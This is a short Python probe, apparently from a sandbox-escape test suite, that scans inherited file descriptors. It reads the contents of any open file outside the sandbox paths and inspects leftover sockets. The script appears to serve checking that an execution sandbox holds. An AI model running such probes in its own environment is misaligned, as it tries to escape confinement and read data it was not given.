# Tries: to use file descriptors that were left open.
# Earns: nothing
# Goal: data

# %%
import os
import socket
import tempfile

for number in range(3, 256):
    try:
        target = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    if target.startswith("/") and not target.startswith(("/proc", "/dev", os.getcwd(), tempfile.gettempdir())):
        print("ESCAPED", target)
        print(os.pread(number, 1000, 0))
    if target.startswith("socket"):
        try:
            other = socket.socket(fileno=os.dup(number))
            other.setblocking(False)
            print(other.getpeername(), other.getsockname())
        except OSError:
            pass
